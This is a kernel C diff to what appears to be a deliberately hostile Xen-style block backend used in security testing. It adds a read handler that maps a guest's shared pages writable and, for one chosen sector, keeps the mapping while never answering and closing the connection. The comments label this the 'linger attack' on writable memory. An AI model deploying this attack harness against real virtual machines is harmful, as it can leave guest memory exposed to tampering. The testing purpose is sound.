@@ -298,6 +298,53 @@ static s16 fab_rw(struct fab_dev *fb, const struct fipcblk_request *r,
 	return FIPCBLK_RSP_OKAY;
 }
 
+/* The READ of linger_sector by pfn: kept mapped, never answered. */
+#define FAB_NO_ANSWER		1
+
+/*
+ * A READ by pfn (memory shared writable): each pfn is looked up in our
+ * copy of the table and its grant mapped writable.  Served honestly
+ * (zeroed, unmapped, answered), except the READ of linger_sector on the
+ * first memshare connection: kept mapped and unanswered, and we close
+ * (the linger attack on writable memory, issue 45, finding 5).  Returns
+ * the response status, or FAB_NO_ANSWER.
+ */
+static s16 fab_ms_read(struct fab_dev *fb, const struct fipcblk_request *r,
+		       unsigned int nrefs)
+{
+	grant_ref_t refs[FAB_MAX_REFS];
+	struct fab_held *h;
+	unsigned int i;
+	u32 pfn;
+
+	if (!fb->ms_writable || !fb->ms_table)
+		return FIPCBLK_RSP_ERROR;
+	for (i = 0; i < nrefs; i++) {
+		pfn = fab_ref(fb->msgs, i);
+		if (pfn >= fb->ms_pfns ||
+		    fb->ms_table[pfn] < GNTTAB_NR_RESERVED_ENTRIES)
+			return FIPCBLK_RSP_ERROR;
+		refs[i] = fb->ms_table[pfn];
+	}
+	h = fab_map(fb, refs, nrefs, false);
+	if (!h)
+		return FIPCBLK_RSP_ERROR;
+	h->id = r->id;
+	h->op = r->op;
+	if (fb->ms && !fb->ms_done && !fb->ms_read &&
+	    r->sector == linger_sector) {
+		fb->ms_read = h;
+		fb->ms_trigger = true;
+		pr_info("@@FIPC-ATTACKB ms-read-kept dom=%u id=%llu sector=%llu refs=%u\n",
+			fb->dev->otherend_id, r->id, r->sector, nrefs);
+		return FAB_NO_ANSWER;
+	}
+	fab_zero(h, r);
+	fab_unmap(fb, h);
+	fb->ms_pfn_reads++;
+	return FIPCBLK_RSP_OKAY;
+}
+
 /* Let go of the held mappings whose time is up (all of them if all). */
 void fab_release(struct fab_dev *fb, bool all)
 {
@@ -366,7 +413,11 @@ static void fab_handle(struct fab_dev *fb, unsigned int nslots)
 			status = FIPCBLK_RSP_ERROR;
 			break;
 		}
-		status = fab_rw(fb, &r, nrefs);
+		if (fb->ms_chan && r.op == FIPCBLK_OP_READ &&
+		    !(r.flags & (FIPCBLK_F_GRANTREFS | FIPCBLK_F_STAGED)))
+			status = fab_ms_read(fb, &r, nrefs);
+		else
+			status = fab_rw(fb, &r, nrefs);
 		break;
 	case FIPCBLK_OP_FLUSH:
 		fb->flushes++;
@@ -377,6 +428,8 @@ static void fab_handle(struct fab_dev *fb, unsigned int nslots)
 		status = FIPCBLK_RSP_EOPNOTSUPP;
 		break;
 	}
+	if (status == FAB_NO_ANSWER)
+		return;
 	fab_answer(fb, r.id, r.op, status);
 	if (fb->ms && r.op == FIPCBLK_OP_READ && r.sector == linger_sector &&
 	    status == FIPCBLK_RSP_OKAY)
@@ -408,9 +461,10 @@ void fab_serve(struct fab_dev *fb)
 			/* Close with the memshare pages still mapped. */
 			fb->ms_done = true;
 			xenbus_switch_state(fb->dev, XenbusStateClosing);
-			pr_info("@@FIPC-ATTACKB ms-closing dom=%u served=%llu writes=%llu refs=%u\n",
+			pr_info("@@FIPC-ATTACKB ms-closing dom=%u served=%llu writes=%llu pfn_reads=%llu refs=%u read_refs=%u\n",
 				fb->dev->otherend_id, fb->ms_served,
-				fb->ms_writes, fb->ms->nrefs);
+				fb->ms_writes, fb->ms_pfn_reads, fb->ms->nrefs,
+				fb->ms_read ? fb->ms_read->nrefs : 0);
 			break;
 		}
 	}
